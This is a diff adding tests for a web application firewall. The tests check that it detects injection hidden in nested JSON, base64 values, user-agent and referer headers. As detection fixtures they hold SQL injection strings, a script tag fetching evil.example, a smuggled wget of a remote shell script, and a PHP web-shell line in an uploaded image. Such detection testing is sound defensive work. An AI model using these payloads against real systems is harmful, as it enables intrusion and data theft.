@@ -11,6 +11,8 @@ const body = (waf: Waf, contentType: string, text: string | Buffer, target = '/'
 const ids = (verdict: { matches: readonly { rule: { id: string } }[] }): string[] =>
   verdict.matches.map((match) => match.rule.id);
 
+const hits = (specimen: string): boolean => inspectSpecimen(new Waf(), specimen).hit;
+
 test('a clean request gets the one shared verdict', () => {
   const waf = new Waf();
   assert.equal(head(waf, '/items?id=5&q=blue+shoes'), CLEAN);
@@ -164,4 +166,54 @@ test('an uploaded image with a program inside is seen', () => {
   const part =
     '--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\n\xff\xd8\xff<?php system($_GET["c"]); ?>\r\n--b--';
   assert.ok(body(new Waf(), 'multipart/form-data; boundary=b', Buffer.from(part, 'latin1')).hit);
+});
+
+test('a JSON document within a string is read as one, whatever it is called', () => {
+  const call = (command: string) =>
+    JSON.stringify({ function: { name: 'bash', arguments: JSON.stringify({ command }) } });
+  assert.equal(hits(`rawjson ${call('ls -la /var/log && tail -n 50 /var/log/syslog')}`), false);
+  assert.equal(hits(`rawjson ${call("x'; DROP TABLE users--")}`), true);
+  assert.equal(hits('rawjson {"a":"{\\"b\\":{\\"$ne\\":null}}"}'), true);
+});
+
+test('an exclusion for a key holds for the JSON within its string too', () => {
+  const body = `rawjson ${JSON.stringify({ arguments: JSON.stringify({ q: "1' or '1'='1" }) })}`;
+  assert.equal(hits(body), true);
+  for (const parameter of ['arguments', 'q']) {
+    const waf = new Waf({ exclusions: [{ path: '/', parameter }] });
+    assert.equal(inspectSpecimen(waf, body).hit, false, parameter);
+  }
+});
+
+test('a document of many lines may show a program; what reaches for the browser may not', () => {
+  const lines = 'set -e␊cd /tmp␊rm -f a.txt␊echo done | tee log␊npm test && npm run build␊';
+  assert.equal(hits(`json:content ${lines}`), false);
+  assert.equal(hits(`query:content ${lines}`), true);
+  assert.equal(hits(`json:content ${lines}<script>fetch('//evil.example')</script>`), true);
+});
+
+test('a value in base64 is read as what it says, wherever it stands', () => {
+  const hidden = Buffer.from("1' UNION SELECT password FROM users--").toString('base64');
+  for (const place of ['query:id', 'form:id', 'json:id', 'cookie:id', 'target /a'])
+    assert.equal(
+      hits(`${place.startsWith('target') ? `${place}/` : `${place} `}${hidden}`),
+      true,
+      place,
+    );
+  const prose = Buffer.from("It's fine; 5 or 6 of them = enough").toString('base64');
+  assert.equal(hits(`query:note ${prose}`), false);
+});
+
+test("a browser's name is read as any value where it does not begin like one", () => {
+  assert.equal(hits('header:user-agent 1 AND SLEEP(5)'), true);
+  assert.equal(hits('header:user-agent a;wget http://evil.example/x.sh'), true);
+  assert.equal(
+    hits('header:user-agent Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101'),
+    false,
+  );
+});
+
+test('what a referrer held in its query is read as a value', () => {
+  assert.equal(hits('header:referer https://x.example/?a=b&id=1%20AND%20SLEEP(5)'), true);
+  assert.equal(hits('header:referer https://x.example/?q=men%27s+shoes&sort=price'), false);
 });
